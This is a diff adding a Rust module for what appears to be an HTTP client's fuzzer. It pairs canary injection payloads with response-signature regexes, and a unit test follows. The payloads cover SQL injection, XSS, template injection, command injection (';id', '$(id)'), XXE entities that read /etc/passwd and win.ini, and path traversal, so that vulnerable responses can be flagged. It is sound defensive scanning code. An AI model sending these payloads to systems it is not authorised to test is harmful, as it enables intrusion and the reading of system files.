@@ -0,0 +1,180 @@
+//! Injection payloads paired with the response signatures they cause when
+//! they work, so a matching response is flagged with its vulnerability class
+
+use crate::error::Result;
+use crate::sender::FuzzResponse;
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use ts_rs::TS;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, TS)]
+#[serde(rename_all = "snake_case")]
+#[ts(export, export_to = "gen_fuzz.ts")]
+pub enum FuzzVulnClass {
+    Sqli,
+    Xss,
+    Ssti,
+    CommandInjection,
+    Xxe,
+    PathTraversal,
+}
+
+pub const VULN_CLASSES: &[FuzzVulnClass] = &[
+    FuzzVulnClass::Sqli,
+    FuzzVulnClass::Xss,
+    FuzzVulnClass::Ssti,
+    FuzzVulnClass::CommandInjection,
+    FuzzVulnClass::Xxe,
+    FuzzVulnClass::PathTraversal,
+];
+
+/// Database error messages that a broken query leaks
+const SQLI_SIGNATURE: &str = concat!(
+    r"(?i)you have an error in your sql syntax|warning: mysql_|unclosed quotation mark",
+    r"|quoted string not properly terminated|pg::syntaxerror|error: syntax error at or near",
+    r"|ORA-\d{5}|sqlite_error|sqlite3::|sqlstate\[",
+);
+
+/// Markup from the payloads, reflected without encoding
+const XSS_SIGNATURE: &str =
+    r"<svg onload=yaak1337>|<script>yaak1337</script>|<img src=x onerror=yaak1337>";
+
+/// 1337 * 1337, evaluated by a template engine
+const SSTI_SIGNATURE: &str = r"1787569";
+
+/// Output of `id`
+const COMMAND_INJECTION_SIGNATURE: &str = r"uid=\d+\([^)]*\) gid=\d+";
+
+/// Contents of `/etc/passwd` and `win.ini`, read through an entity or a
+/// traversal
+const FILE_SIGNATURE: &str = r"root:[^:\n]*:0:0:|\[fonts\]|; for 16-bit app support";
+
+impl FuzzVulnClass {
+    /// Tag given to results whose response shows the class
+    pub fn tag(&self) -> &'static str {
+        match self {
+            FuzzVulnClass::Sqli => "sqli",
+            FuzzVulnClass::Xss => "xss",
+            FuzzVulnClass::Ssti => "ssti",
+            FuzzVulnClass::CommandInjection => "command_injection",
+            FuzzVulnClass::Xxe => "xxe",
+            FuzzVulnClass::PathTraversal => "path_traversal",
+        }
+    }
+
+    fn payloads(&self) -> &'static [&'static str] {
+        match self {
+            FuzzVulnClass::Sqli => &[
+                "'",
+                "\"",
+                "')",
+                "''",
+                "' OR '1'='1' -- ",
+                "1 AND 1=CONVERT(int,@@version)--",
+            ],
+            FuzzVulnClass::Xss => &[
+                "<svg onload=yaak1337>",
+                "\"><script>yaak1337</script>",
+                "'><img src=x onerror=yaak1337>",
+            ],
+            FuzzVulnClass::Ssti => &[
+                "{{1337*1337}}",
+                "${1337*1337}",
+                "<%= 1337*1337 %>",
+                "#{1337*1337}",
+                "{{=1337*1337}}",
+            ],
+            FuzzVulnClass::CommandInjection => &[";id", "|id", "$(id)", "`id`", "&& id", "\nid\n"],
+            FuzzVulnClass::Xxe => &[
+                concat!(
+                    r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>"#,
+                    "<r>&x;</r>",
+                ),
+                concat!(
+                    r#"<?xml version="1.0"?>"#,
+                    r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><r>&x;</r>"#,
+                ),
+            ],
+            FuzzVulnClass::PathTraversal => &[
+                "../../../../../../../../etc/passwd",
+                "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
+                "....//....//....//....//....//....//....//....//etc/passwd",
+                "..\\..\\..\\..\\..\\..\\..\\..\\windows\\win.ini",
+            ],
+        }
+    }
+
+    fn signature(&self) -> &'static str {
+        match self {
+            FuzzVulnClass::Sqli => SQLI_SIGNATURE,
+            FuzzVulnClass::Xss => XSS_SIGNATURE,
+            FuzzVulnClass::Ssti => SSTI_SIGNATURE,
+            FuzzVulnClass::CommandInjection => COMMAND_INJECTION_SIGNATURE,
+            FuzzVulnClass::Xxe | FuzzVulnClass::PathTraversal => FILE_SIGNATURE,
+        }
+    }
+}
+
+/// The canary payloads of `classes`, or of every class when it's empty
+pub(crate) fn canary_payloads(classes: &[FuzzVulnClass]) -> Vec<String> {
+    let classes = if classes.is_empty() { VULN_CLASSES } else { classes };
+    classes.iter().flat_map(|c| c.payloads()).map(|p| p.to_string()).collect()
+}
+
+/// Response signatures compiled once per run
+#[derive(Default)]
+pub(crate) struct Verdicts {
+    signatures: Vec<(FuzzVulnClass, Regex)>,
+}
+
+impl Verdicts {
+    pub(crate) fn new(classes: &[FuzzVulnClass]) -> Result<Self> {
+        let mut signatures = Vec::with_capacity(classes.len());
+        for class in classes {
+            signatures.push((*class, Regex::new(class.signature())?));
+        }
+        Ok(Self { signatures })
+    }
+
+    /// Classes whose signature shows in the response's body
+    pub(crate) fn classify(&self, response: &FuzzResponse) -> Vec<FuzzVulnClass> {
+        if self.signatures.is_empty() {
+            return Vec::new();
+        }
+        let body = response.body_text();
+        self.signatures.iter().filter(|(_, s)| s.is_match(&body)).map(|(c, _)| *c).collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn flags_responses_showing_a_signature() {
+        let verdicts = Verdicts::new(VULN_CLASSES).unwrap();
+        let response = |body: &str| FuzzResponse { body: body.into(), ..Default::default() };
+        assert_eq!(
+            verdicts.classify(&response("You have an error in your SQL syntax near ''")),
+            vec![FuzzVulnClass::Sqli]
+        );
+        assert_eq!(verdicts.classify(&response("Hello 1787569")), vec![FuzzVulnClass::Ssti]);
+        assert_eq!(
+            verdicts.classify(&response("uid=33(www-data) gid=33(www-data)")),
+            vec![FuzzVulnClass::CommandInjection]
+        );
+
+        // Payloads reflected without running don't show a signature
+        let classes = [
+            FuzzVulnClass::Sqli,
+            FuzzVulnClass::Ssti,
+            FuzzVulnClass::CommandInjection,
+            FuzzVulnClass::Xxe,
+            FuzzVulnClass::PathTraversal,
+        ];
+        for payload in canary_payloads(&classes) {
+            assert!(verdicts.classify(&response(&payload)).is_empty(), "{payload}");
+        }
+        assert_eq!(canary_payloads(&[FuzzVulnClass::Xxe]).len(), 2);
+    }
+}